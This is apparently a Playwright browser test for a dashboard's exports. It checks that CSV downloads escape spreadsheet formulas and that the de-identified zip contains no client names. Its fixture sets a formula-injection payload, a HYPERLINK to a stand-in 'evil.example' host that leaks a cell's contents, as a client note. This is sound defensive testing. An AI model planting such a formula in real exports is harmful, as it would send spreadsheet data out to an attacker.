"""Exports in a real browser: the tables' toolbar has no CSV download, a table's own button downloads formula-safe
CSV, and the de-identified view's Data page downloads a de-identified zip. Chromium is required, never skipped
(see tests/browser/test_browser.py). Screenshots go to screenshots/ for a person to look at."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from playwright.sync_api import expect

from analytics.store.database import open_store
from benchmarks.browser import SharedChromium
from tests.browser.test_browser import (  # noqa: F401
    WAIT_MS,
    dashboard_url,
    expect_no_exception,
    full_screenshot,
)

pytestmark = pytest.mark.browser

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def noted_store(store_path: Path) -> Path:
    """The fixture practice with a formula as Client One's note on S1 (set before the dashboard starts)."""
    con = open_store(store_path)
    con.execute("update submissions set client_note = ? where submission_id = 'S1'", [FORMULA])
    con.close()
    return store_path


def test_downloads_are_formula_safe_and_follow_the_deidentified_view(
    browser: SharedChromium, noted_store: Path, dashboard_url: str  # noqa: F811
) -> None:
    page = browser.new_page(viewport={"width": 1400, "height": 900}, accept_downloads=True)
    page.set_default_timeout(WAIT_MS)
    page.goto(dashboard_url)
    expect(page.get_by_role("heading", name="Overview")).to_be_visible()

    page.get_by_test_id("stSidebarNav").get_by_text("Client", exact=True).click()
    page.get_by_role("combobox", name="Client").click()
    page.get_by_role("option", name="Client One · Ada Byron").click()
    expect(page.get_by_test_id("stText").first).to_have_text("Client One")
    # The submissions table's own button, found by its key: it is drawn last, so "the last Download CSV" could still
    # be the current homework's while the page is being drawn.
    download = page.locator(".st-key-client_submissions_download").get_by_role("button", name="Download CSV")
    expect(download).to_be_visible()
    submissions = page.get_by_test_id("stDataFrame").last
    submissions.scroll_into_view_if_needed()
    submissions.hover()
    toolbar = page.get_by_test_id("stElementToolbar").last
    expect(toolbar.get_by_role("button", name="Search")).to_be_visible()  # the toolbar is there...
    expect(toolbar.get_by_role("button", name="Download as CSV")).to_have_count(0)  # ...without its download
    with page.expect_download() as caught:
        download.click()
    data = Path(caught.value.path()).read_bytes().decode("utf-8-sig")
    assert caught.value.suggested_filename == "submissions-C1.csv"
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"' in data
    expect_no_exception(page)
    full_screenshot(page, "export-1-client")

    page.get_by_test_id("stSidebar").get_by_text("De-identified view").click()
    expect(page.get_by_test_id("stText").first).to_have_text(re.compile(r"^C-[0-9a-f]{16}$"))  # a pseudonym
    expect(page.get_by_text("Client One")).to_have_count(0)
    page.get_by_test_id("stSidebarNav").get_by_text("Data", exact=True).click()
    expect(page.get_by_role("button", name="Identified CSV (.zip)", exact=True)).to_have_count(0)
    with page.expect_download() as caught:
        page.get_by_role("button", name="De-identified CSV (.zip)").click()
    with zipfile.ZipFile(io.BytesIO(Path(caught.value.path()).read_bytes())) as archive:
        names = archive.namelist()
        text = b"".join(archive.read(name) for name in names).decode("utf-8")
    assert "submissions.csv" in names and "by_type.csv" in names
    for typed in ("Client One", "Ada Byron", "Thought record", "HYPERLINK", "C1,", '"C1"'):
        assert typed not in text
    expect_no_exception(page)
    full_screenshot(page, "export-2-data-deidentified")
    page.close()
